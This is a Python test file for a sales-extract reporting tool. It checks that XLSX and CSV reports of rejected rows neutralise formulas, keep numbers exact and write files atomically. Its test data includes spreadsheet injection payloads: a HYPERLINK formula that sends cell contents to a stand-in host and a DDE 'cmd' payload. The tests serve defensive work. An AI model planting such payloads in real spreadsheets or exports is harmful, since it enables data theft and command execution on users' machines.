"""The report of an extract: complete, with a summary, and nothing in it can be run."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st

from marketsync_dagster.pos.check import Part, read
from marketsync_dagster.pos.model import Extract, ExtractSpec
from marketsync_dagster.pos.readers.xlsx import read_xlsx
from marketsync_dagster.pos.report import check_target, write_report
from marketsync_dagster.pos.tables import Kind
from marketsync_dagster.values.cells import inert, number_in, would_run
from marketsync_dagster.values.errors import ExtractError, MarketSyncError, UsageError

ATTACK = "=HYPERLINK(\"http://x.example/?\"&A1,\"sale\")"  # fmt: skip
LINES = [
    "sku,name,price",
    "001,Tea,-5.00",
    '"' + ATTACK.replace('"', '""') + '",Tea,5',
    "@SUM(1),Rice,+9z",
    "-1+1|cmd,Salt,abc",
    "http://a.example,Salt,-1",
    "00123,Oil,-0012",
    "5,Oil,-1.250",
    "6,Oil,-12345678901234567890",
    "7,Oil,1.50",
]

INERT = [
    ("=1+1", True), ("+cmd|' /C calc'!A0", True), ("-1+1", True), ("@SUM(1)", True),
    ("\t=1", True), ("\r=1", True), (" =1", True), ("\u200b=1", True), ("＝1", True), ("＋a", True),
    ("|x", True), ("-", True), ("+", True), ("=", True), ("-5x", True), ("+5+5", True),
    ("-٣", True),
    ("-5.00", False), ("+5", False), ("-1.234,50", False), ("-5%", False), ("-1e5", False),
    ("Tea", False), ("5=6", False), ("", False), ("'=1", False), ("-.5", False),
]  # fmt: skip


@pytest.mark.parametrize(("text", "runs"), INERT, ids=[repr(case[0]) for case in INERT])
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text: str, runs: bool) -> None:
    assert would_run(text) is runs
    assert inert(text) == (f"'{text}" if runs else text)
    assert not would_run(inert(text))


NUMBERS = [
    ("5", (5.0, 0)), ("-5.00", (-5.0, 2)), ("0.10", (0.1, 2)), ("0", (0.0, 0)),
    ("123456789012345", (123456789012345.0, 0)),
    ("00123", None), ("1234567890123456", None), ("0.1234567890123456", None), ("+5", None),
    ("1e3", None), ("5.", None), (".5", None), ("1,5", None), ("-0", None), ("", None),
    ("5 KES", None), ("٣", None),
]  # fmt: skip


@pytest.mark.parametrize(("text", "number"), NUMBERS, ids=[repr(case[0]) for case in NUMBERS])
def test_a_number_is_one_only_if_it_is_shown_as_written(
    text: str, number: tuple[float, int] | None
) -> None:
    assert number_in(text) == number


@given(st.from_regex(r"-?[0-9]{1,17}(\.[0-9]{1,16})?", fullmatch=True))
def test_a_number_in_its_format_is_the_text_again(text: str) -> None:
    found = number_in(text)
    if found is not None:
        value, decimals = found
        assert f"{value:.{decimals}f}" == text


@pytest.fixture
def extract_file(tmp_path: Path) -> Path:
    path = tmp_path / "shop.csv"
    path.write_text("\n".join(LINES) + "\n", "utf-8")
    return path


def only(parts: list[Part]) -> Extract:
    (part,) = parts
    assert part.extract is not None
    return part.extract


def test_the_spreadsheet_has_a_summary_and_every_row_with_its_text(extract_file: Path) -> None:
    parts = read(extract_file, ExtractSpec())
    extract = only(parts)
    target = extract_file.with_name("report.xlsx")
    write_report(parts, target)
    rejects = extract.rejects.astype(object).where(extract.rejects.notna(), None)
    table = read_xlsx(target, file="report.xlsx", sheet="Rejected")
    assert table.headers == list(extract.rejects.columns)
    (block,) = table.blocks
    for name in ("file", "column", "value", "reason", "next_step", "sku"):
        expected = [_as_number(value) for value in rejects[name]] if name == "value" else None
        assert block.columns[name].to_pylist() == (expected or list(rejects[name]))
    assert block.columns["line"].to_pylist() == [str(line) for line in rejects["line"]]
    assert set(block.kinds["line"].tolist()) == {Kind.NUMBER}
    values = dict(zip(rejects["value"], block.kinds["value"].tolist(), strict=True))
    assert values["-5.00"] == values["-1.250"] == Kind.NUMBER
    assert values["-0012"] == values["-12345678901234567890"] == values[ATTACK] == Kind.TEXT
    # text stays text for a SKU, whatever it looks like
    assert Kind.NUMBER not in block.kinds.get("sku", [])


def _as_number(value: str) -> str:
    return value.rstrip("0").rstrip(".") if number_in(value) else value


def test_the_summary_counts_every_reason(extract_file: Path) -> None:
    parts = read(extract_file, ExtractSpec())
    extract = only(parts)
    target = extract_file.with_name("report.xlsx")
    write_report(parts, target)
    with zipfile.ZipFile(target) as package:
        assert b'name="Summary"' in package.read("xl/workbook.xml").partition(b"Rejected")[0]
    table = read_xlsx(target, file="r", sheet="Summary", columns={"sku": "reason", "price": "rows"})
    (block,) = table.blocks
    found = dict(zip(block.columns["reason"].to_pylist(), block.columns["rows"].to_pylist(),
                     strict=True))  # fmt: skip
    counts = extract.rejects["reason"].value_counts()
    assert found == {reason: str(count) for reason, count in counts.items()}


def test_no_cell_of_the_spreadsheet_is_a_formula_or_a_link(extract_file: Path) -> None:
    target = extract_file.with_name("report.xlsx")
    parts = read(extract_file, ExtractSpec())
    refused = Part("=1+1", "@x", refusal=ExtractError("empty", "+1 is empty"))
    write_report([*parts, refused], target)
    with zipfile.ZipFile(target) as package:
        names = package.namelist()
        assert not [name for name in names if "externalLink" in name or "worksheets/_rels" in name]
        styles = ElementTree.fromstring(package.read("xl/styles.xml"))
        protected = {
            str(index)
            for index, style in enumerate(styles.findall("{*}cellXfs/{*}xf"))
            if style.get("quotePrefix") == "1"
        }
        seen = 0
        for name in names:
            if not name.startswith("xl/worksheets/"):
                continue
            sheet = ElementTree.fromstring(package.read(name))
            assert not sheet.findall(".//{*}f")
            assert not sheet.findall(".//{*}hyperlink")
            for cell in sheet.findall(".//{*}c"):
                text = "".join(cell.itertext())
                if cell.get("t") in ("s", "inlineStr") and would_run(text):
                    seen += 1
                    assert cell.get("s") in protected, text
        assert seen >= 4


def test_a_cell_of_the_csv_is_inert_and_numbers_stay_as_they_are(extract_file: Path) -> None:
    target = extract_file.with_name("report.csv")
    parts = read(extract_file, ExtractSpec())
    extract = only(parts)
    write_report(parts, target)
    with target.open(encoding="utf-8-sig", newline="") as stream:
        found = list(csv.DictReader(stream))
    assert len(found) == extract.rejected
    assert not [cell for row in found for cell in row.values() if would_run(cell)]
    values = {row["value"] for row in found}
    assert values >= {f"'{ATTACK}", "-5.00", "-0012", "'+9z"}
    assert "'@SUM(1)" in {row["sku"] for row in found}
    assert target.read_bytes().startswith(b"\xef\xbb\xbf")


def test_an_extract_without_rejects_has_a_report_too(tmp_path: Path) -> None:
    path = tmp_path / "good.csv"
    path.write_text("sku,price\n1,2.50\n", "utf-8")
    parts = read(path, ExtractSpec())
    for name in ("r.xlsx", "r.csv"):
        write_report(parts, tmp_path / name)
        assert (tmp_path / name).stat().st_size > 40


def test_a_report_goes_nowhere_but_to_a_file_of_its_own(tmp_path: Path, extract_file: Path) -> None:
    check_target(tmp_path / "r.XLSX", extract_file)
    link = tmp_path / "link.csv"
    link.symlink_to(extract_file)
    (tmp_path / "folder.csv").mkdir()
    for target, words in [
        (tmp_path / "r.pdf", "neither"), (extract_file, "itself"), (link, "itself"),
        (tmp_path / "none" / "r.csv", "cannot be written"),
        (tmp_path / "folder.csv", "cannot be written"),
    ]:  # fmt: skip
        with pytest.raises(UsageError, match=words):
            check_target(target, extract_file)


def test_a_report_is_complete_or_not_there(
    tmp_path: Path, extract_file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "report.csv"
    target.write_text("old", "utf-8")
    parts = read(extract_file, ExtractSpec())

    def full(*_: object) -> str:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("marketsync_dagster.pos.report.inert", full)
    with pytest.raises(MarketSyncError, match=r"report.csv cannot be written: No space"):
        write_report(parts, target)
    assert target.read_text("utf-8") == "old"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["report.csv", "shop.csv"]
